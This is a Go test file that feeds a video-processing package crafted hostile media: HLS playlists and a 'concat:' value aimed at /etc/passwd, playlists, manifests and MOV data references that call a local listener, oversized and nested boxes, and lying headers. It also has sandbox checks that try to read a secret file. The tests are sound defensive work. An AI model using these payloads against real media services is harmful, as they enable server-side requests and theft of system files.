package mediavideo_test

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"meadow/media"
	"meadow/media/mediavideo"
)

// box is a box of an MP4.
func box(kind string, body ...[]byte) []byte {
	b := slices.Concat(body...)
	return slices.Concat(binary.BigEndian.AppendUint32(nil, uint32(len(b)+8)), []byte(kind), b)
}

// listener counts who connects to it.
func listener(t *testing.T) (addr string, hits *atomic.Int32) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	hits = new(atomic.Int32)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { l.Close(); <-done })
	return l.Addr().String(), hits
}

// pointing replaces the data of a MOV with a reference to somewhere else.
func pointing(t *testing.T, sample []byte, kind string, body []byte) []byte {
	t.Helper()
	old := box("dref", []byte{0, 0, 0, 0, 0, 0, 0, 1}, box("url ", []byte{0, 0, 0, 1}))
	i := bytes.Index(sample, old)
	if i < 0 {
		t.Fatal("the sample has no reference to data")
	}
	changed := box("dref", []byte{0, 0, 0, 0, 0, 0, 0, 1}, box(kind, []byte{0, 0, 0, 0}, body))
	out := slices.Concat(sample[:i], changed, sample[i+len(old):])
	grow(t, out, i, len(changed)-len(old))
	return out
}

// empty leaves nothing of the data of a MOV.
func empty(t *testing.T, sample []byte) []byte {
	t.Helper()
	out := bytes.Clone(sample)
	i := bytes.Index(out, []byte("mdat"))
	if i < 0 {
		t.Fatal("no data")
	}
	clear(out[i+4:][:binary.BigEndian.Uint32(out[i-4:])-8])
	return out
}

// grow adds n to the size of every box around at.
func grow(t *testing.T, file []byte, at, n int) {
	t.Helper()
	for from, to := 0, len(file); from < to; {
		size, kind := int(binary.BigEndian.Uint32(file[from:])), string(file[from+4:from+8])
		if size < 8 {
			t.Fatalf("a box %q of %d bytes", kind, size)
		}
		if at < from+8 || at >= from+size {
			from += size
			continue
		}
		binary.BigEndian.PutUint32(file[from:], uint32(size+n))
		from += 8
		if at == from {
			return
		}
	}
}

// sized says in every header of a video that it is w by h pixels.
func sized(t *testing.T, sample []byte, from, to [2]uint16) []byte {
	t.Helper()
	old := binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(nil, from[0]), from[1])
	out := bytes.Clone(sample)
	i := bytes.Index(out, []byte("avc1\x00\x00\x00\x00\x00\x00"))
	if i < 0 {
		t.Fatal("no description of a track")
	}
	j := bytes.Index(out[i:], old)
	if j < 0 || j > 60 {
		t.Fatal("no size in it")
	}
	binary.BigEndian.PutUint16(out[i+j:], to[0])
	binary.BigEndian.PutUint16(out[i+j+2:], to[1])
	return out
}

// lasting says in every header of a video that it lasts factor times as long.
func lasting(t *testing.T, sample []byte, factor uint32) []byte {
	t.Helper()
	out := bytes.Clone(sample)
	for _, b := range []struct {
		kind string
		at   int // of the duration after the kind
	}{{"mvhd", 20}, {"tkhd", 24}, {"mdhd", 20}} {
		i := bytes.Index(out, []byte(b.kind))
		if i < 0 {
			t.Fatalf("no %s", b.kind)
		}
		p := out[i+b.at:]
		binary.BigEndian.PutUint32(p, binary.BigEndian.Uint32(p)*factor)
	}
	return out
}

// TestHostileVideosAreRefusedWithTheirReason lays files that are made to do harm
// before a maker. Beside them lies a video that they would like to show, and a
// listener that they would like to call.
func TestHostileVideosAreRefusedWithTheirReason(t *testing.T) {
	t.Parallel()
	f := maker(t)
	addr, hits := listener(t)
	beside := filepath.Join(t.TempDir(), "secret.mp4")
	good := ffmpeg(t, "a.mp4", "-f", "lavfi", "-i", fmt.Sprintf(testCard, 320, 240, 30, 2), "-pix_fmt", "yuv420p")
	fast := ffmpeg(t, "a.mp4", "-f", "lavfi", "-i", fmt.Sprintf(testCard, 320, 240, 30, 6), "-pix_fmt", "yuv420p", "-movflags", "+faststart")
	web := ffmpeg(t, "a.webm", "-f", "lavfi", "-i", fmt.Sprintf(testCard, 320, 240, 30, 6), "-c:v", "libvpx", "-deadline", "realtime")
	if err := os.WriteFile(beside, good, 0o644); err != nil {
		t.Fatal(err)
	}
	playlist := func(lines ...string) []byte { return []byte(strings.Join(lines, "\n") + "\n") }
	ftyp := box("ftyp", []byte("isom\x00\x00\x02\x00isomiso2"))
	free := func(b []byte) []byte { return slices.Concat(ftyp, box("free", b), b) }
	local := playlist("#EXTM3U", "#EXT-X-TARGETDURATION:4", "#EXTINF:4,", "file://"+beside, "#EXT-X-ENDLIST")
	remote := playlist("#EXTM3U", "#EXT-X-TARGETDURATION:4", "#EXT-X-KEY:METHOD=AES-128,URI=\"http://"+addr+"/key\"", "#EXTINF:4,", "http://"+addr+"/a.ts", "#EXT-X-ENDLIST")
	passwd := playlist("#EXTM3U", "#EXT-X-TARGETDURATION:4", "#EXTINF:4,", "concat:http://"+addr+"/x|file:///etc/passwd", "#EXTINF:4,", "/etc/passwd", "#EXT-X-ENDLIST")
	script := playlist("ffconcat version 1.0", "file "+beside)
	dash := []byte(`<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1"><BaseURL>http://` + addr + `/a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`)
	alias := slices.Concat(make([]byte, 4), []byte{0, 150}, make([]byte, 144), []byte{0, 2}, binary.BigEndian.AppendUint16(nil, uint16(len(beside))), []byte(beside), []byte{0xff, 0xff, 0, 0})

	for name, c := range map[string]struct {
		data []byte
		want error
	}{
		"nothing":                         {nil, media.ErrNotVideo},
		"text":                            {[]byte("just words"), media.ErrNotVideo},
		"a page":                          {[]byte("<html><script>alert(1)</script></html>"), media.ErrNotVideo},
		"a drawing":                       {[]byte(`<svg xmlns="http://www.w3.org/2000/svg"><image href="http://` + addr + `/x"/></svg>`), media.ErrNotVideo},
		"a picture of a phone":            {slices.Concat(box("ftyp", []byte("heic\x00\x00\x00\x00heicmif1")), box("mdat", make([]byte, 100))), media.ErrNotVideo},
		"a playlist of a local file":      {local, media.ErrNotVideo},
		"a playlist of addresses":         {remote, media.ErrNotVideo},
		"a playlist of passwords":         {passwd, media.ErrNotVideo},
		"a script of files":               {script, media.ErrNotVideo},
		"a DASH manifest":                 {dash, media.ErrNotVideo},
		"a playlist behind a head":        {free(local), media.ErrBrokenVideo},
		"addresses behind a head":         {free(remote), media.ErrBrokenVideo},
		"a script behind a head":          {free(script), media.ErrBrokenVideo},
		"a manifest behind a head":        {free(dash), media.ErrBrokenVideo},
		"a head alone":                    {ftyp, media.ErrBrokenVideo},
		"zeros behind a head":             {slices.Concat(ftyp, make([]byte, 1<<20)), media.ErrBrokenVideo},
		"a box of four gigabytes":         {slices.Concat(ftyp, []byte{0xff, 0xff, 0xff, 0xff}, []byte("moov")), media.ErrNotVideo},
		"boxes within boxes":              {slices.Concat(ftyp, nested(2000)), media.ErrBrokenVideo},
		"data in another file":            {pointing(t, empty(t, good), "url ", []byte("file://"+beside+"\x00")), media.ErrBrokenVideo},
		"data at an address":              {pointing(t, empty(t, good), "url ", []byte("http://"+addr+"/a.mp4\x00")), media.ErrBrokenVideo},
		"data under an alias":             {pointing(t, empty(t, good), "alis", alias), media.ErrBrokenVideo},
		"half a video":                    {good[:len(good)/2], media.ErrBrokenVideo},
		"half a video that began well":    {fast[:len(fast)/2], media.ErrBrokenVideo},
		"half a WebM":                     {web[:len(web)/2], media.ErrBrokenVideo},
		"a WebM's head":                   {web[:300], media.ErrBrokenVideo},
		"a header that lies about pixels": {sized(t, good, [2]uint16{320, 240}, [2]uint16{60_000, 60_000}), nil}, // taken as what it is
		"a picture wider than is taken":   {ffmpeg(t, "a.mp4", "-f", "lavfi", "-i", "color=size=5000x64:rate=1:duration=1", "-c:v", "mpeg4"), media.ErrVideoSide},
		"pixels that make it wider":       {ffmpeg(t, "a.mp4", "-f", "lavfi", "-i", "color=size=4000x64:rate=1:duration=1", "-vf", "setsar=2", "-pix_fmt", "yuv420p"), media.ErrVideoSide},
		"a header of an hour":             {lasting(t, good, 1800), media.ErrTooLong},
		"sixteen minutes":                 {ffmpeg(t, "a.mp4", "-f", "lavfi", "-i", "color=size=64x64:rate=1:duration=960", "-preset", "ultrafast", "-pix_fmt", "yuv420p"), media.ErrTooLong},
		"sixteen minutes that are hidden": {ffmpeg(t, "a.webm", "-f", "lavfi", "-i", "color=size=64x64:rate=1:duration=960", "-c:v", "libvpx", "-deadline", "realtime", "-live", "1"), media.ErrTooLong},
		"sound alone":                     {ffmpeg(t, "a.m4a", "-f", "lavfi", "-i", fmt.Sprintf(tone, 1)), media.ErrNotVideo},
		"two videos":                      {ffmpeg(t, "a.mkv", "-f", "lavfi", "-i", fmt.Sprintf(testCard, 64, 64, 10, 1), "-map", "0", "-map", "0", "-pix_fmt", "yuv420p"), media.ErrBrokenVideo},
		"a codec that is not taken":       {ffmpeg(t, "a.mkv", "-f", "lavfi", "-i", fmt.Sprintf(testCard, 64, 64, 10, 1), "-c:v", "ffv1"), media.ErrBrokenVideo},
		"a picture of few pixels":         {ffmpeg(t, "a.mp4", "-f", "lavfi", "-i", "color=size=8x8:rate=10:duration=1", "-c:v", "mpeg4"), media.ErrBrokenVideo},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := laid(t, c.data)
			m, err := f(t.Context(), dir, false, func(int64) {})
			if !errors.Is(err, c.want) {
				t.Errorf("%+v, %v; want %v", m, err, c.want)
			}
			if errors.Is(err, mediavideo.ErrKilled) {
				t.Errorf("it had to be killed: %v", err)
			}
			left, err := filepath.Glob(filepath.Join(dir, "*"))
			if err != nil {
				t.Fatal(err)
			}
			for _, l := range left {
				if b, err := os.ReadFile(l); err == nil && bytes.Contains(b, []byte("root:")) {
					t.Errorf("%s holds a file of this machine", l)
				}
			}
		})
	}
	t.Cleanup(func() {
		if n := hits.Load(); n != 0 {
			t.Errorf("somebody was called %d times", n)
		}
	})
}

// nested is a box within a box, and so on.
func nested(deep int) []byte {
	var b []byte
	for range deep {
		b = box("moov", b)
	}
	return b
}

func TestWhatRunsSeesNeitherFilesNorTheNetworkNorTheEnvironment(t *testing.T) {
	t.Parallel()
	if runtime.GOOS != "linux" {
		t.Skip("SKIPPED: programs are confined on Linux only")
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dir, secret := t.TempDir(), filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("canary"), 0o644); err != nil {
		t.Fatal(err)
	}
	sh := func(cpu, writes, script string) (string, error) {
		cmd := exec.CommandContext(t.Context(), self, mediavideo.Command, cpu, writes, "/bin/sh", "-c", script)
		cmd.Dir = dir
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	if out, err := sh("5", "true", "echo here; env; echo x >made && cat made"); err != nil || !strings.HasPrefix(out, "here\n") || !strings.HasSuffix(out, "x\n") || strings.Contains(out, "HOME") {
		t.Errorf("in its folder: %q, %v", out, err)
	}
	if out, err := sh("5", "false", "echo x >other"); err == nil {
		t.Errorf("it wrote, and must not: %q", out)
	}
	began := time.Now()
	if out, err := sh("1", "false", "while :; do :; done"); err == nil || time.Since(began) > time.Minute {
		t.Errorf("it ran on: %q, %v", out, err)
	}
	if out, err := sh("5", "false", "cat "+secret); err == nil || strings.Contains(out, "canary") {
		if !landlocked() {
			t.Skip("SKIPPED: this kernel has no Landlock, so that programs may read what their user may")
		}
		t.Errorf("it read a file: %q", out)
	}
}

func TestWithoutFFmpegItIsSaidWhatIsMissing(t *testing.T) {
	t.Setenv("PATH", t.TempDir())
	if f, missing := mediavideo.Find(t.Context()); f != nil || missing != "ffmpeg and ffprobe" {
		t.Errorf("missing %q", missing)
	}
	dir := t.TempDir()
	for _, name := range []string{"ffmpeg", "ffprobe"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte("#!/bin/sh\necho ' V..... mpeg4 '\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("PATH", dir)
	if f, missing := mediavideo.Find(t.Context()); f != nil || missing != "an ffmpeg with libx264 and aac and mjpeg" {
		t.Errorf("missing %q", missing)
	}
}

func TestItIsNotTheVideosFaultIfTheWorkIsStopped(t *testing.T) {
	t.Parallel()
	f := maker(t)
	dir := laid(t, phone(t, 1280, 720, 5))
	ctx, cancel := contextOf(t)
	_, err := f(ctx, dir, false, func(int64) { cancel() })
	if !errors.Is(err, ctx.Err()) || errors.Is(err, media.ErrBrokenVideo) {
		t.Errorf("%v, want the end of the context", err)
	}
	if _, err := f(t.Context(), t.TempDir(), false, func(int64) {}); err == nil || errors.Is(err, media.ErrBrokenVideo) || errors.Is(err, media.ErrNotVideo) {
		t.Errorf("without a source: %v", err)
	}
}

// TestWhatRunsEndsWithItsProcess kills a process while it makes a video.
func TestWhatRunsEndsWithItsProcess(t *testing.T) {
	t.Parallel()
	if runtime.GOOS != "linux" {
		t.Skip("SKIPPED: only on Linux does a program end with the one that started it")
	}
	maker(t)
	dir := laid(t, ffmpeg(t, "a.mp4", "-f", "lavfi", "-i", fmt.Sprintf(testCard, 1280, 720, 15, 40), "-preset", "ultrafast", "-pix_fmt", "yuv420p"))
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), self)
	cmd.Env = append(os.Environ(), "MEADOW_MAKE_VIDEO_IN="+dir)
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	said := make([]byte, 64)
	for range 2 { // the first is said before encoding begins
		if n, err := out.Read(said); err != nil || !strings.HasPrefix(string(said[:n]), "begun") {
			t.Fatalf("%q, %v", said[:n], err)
		}
	}
	if running(t, dir) == 0 {
		t.Fatal("nothing runs that could be left behind")
	}
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait() // it was killed
	for deadline := time.Now().Add(20 * time.Second); running(t, dir) > 0; {
		if time.Now().After(deadline) {
			t.Fatal("what it started runs on")
		}
		time.Sleep(10 * time.Millisecond) // another process ends: nothing here can tell us
	}
}

// running counts the processes that work in dir.
func running(t *testing.T, dir string) int {
	t.Helper()
	all, err := filepath.Glob("/proc/[0-9]*/cwd")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, p := range all {
		if at, err := os.Readlink(p); err == nil && at == dir {
			n++
		}
	}
	return n
}
